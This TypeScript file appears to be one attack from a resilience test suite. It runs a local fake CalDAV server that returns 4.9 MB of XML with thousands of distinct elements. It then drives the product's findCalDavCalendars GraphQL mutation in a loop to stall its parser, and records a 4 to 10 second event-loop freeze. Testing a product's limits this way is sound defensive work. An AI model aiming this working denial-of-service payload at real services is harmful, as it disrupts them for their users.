import { createServer } from 'node:http';
import { once } from 'node:events';
import type { Attack, Target } from '../attack.ts';

const BYTES = 4_900_000;
const FIND = `mutation ($url: String!) {
  findCalDavCalendars(input: { url: $url, username: "ann", password: "none" }) { __typename ... on Error { message } }
}`;

export const calendarXml: Attack = {
  name: 'a calendar server that answers everything with 4.9 MB of XML',
  promise: 'a thread parses it, with 20 MB, 20 s and 512 MB',
  found: 'the event loop stood still for 4 to 10 s',
  keepsToBudget: true,
  async run(target, until) {
    const answer = hostileAnswer();
    let asked = 0;
    const server = createServer((_, response) => {
      asked += 1;
      response.writeHead(207, { 'content-type': 'application/xml; charset=utf-8' }).end(answer);
    });
    await once(server.listen(0, '127.0.0.1'), 'listening');
    const address = server.address();
    if (address === null || typeof address === 'string') throw new Error('It has no port.');
    while (!until.aborted) {
      const refusal = await findCalendars(target, `http://127.0.0.1:${address.port}/`, until);
      if (asked === 0) throw new Error(`It is not asked: ${refusal}`);
    }
    server.closeAllConnections();
    server.close();
  },
};

/** A response that leads the client on, with as many different elements as fit. */
function hostileAnswer(): string {
  const begin =
    '<d:multistatus xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"><d:response><d:href>/</d:href><d:propstat><d:prop><d:current-user-principal><d:href>/principal/</d:href></d:current-user-principal><c:calendar-home-set><d:href>/home/</d:href></c:calendar-home-set>';
  const end =
    '</d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response></d:multistatus>';
  const elements: string[] = [];
  let bytes = begin.length + end.length;
  for (let number = 0; bytes < BYTES; number += 1) {
    const element = `<k${number}>x</k${number}>`;
    elements.push(element);
    bytes += element.length;
  }
  return begin + elements.join('') + end;
}

/** @returns what the product says of the calendar. */
async function findCalendars(
  { url, session }: Target,
  calendarUrl: string,
  until: AbortSignal,
): Promise<string> {
  try {
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      signal: until,
      headers: { 'content-type': 'application/json', authorization: `Bearer ${session}` },
      body: JSON.stringify({ query: FIND, variables: { url: calendarUrl } }),
    });
    return await response.text();
  } catch (error) {
    if (until.aborted) return 'The attack is over.';
    throw error;
  }
}
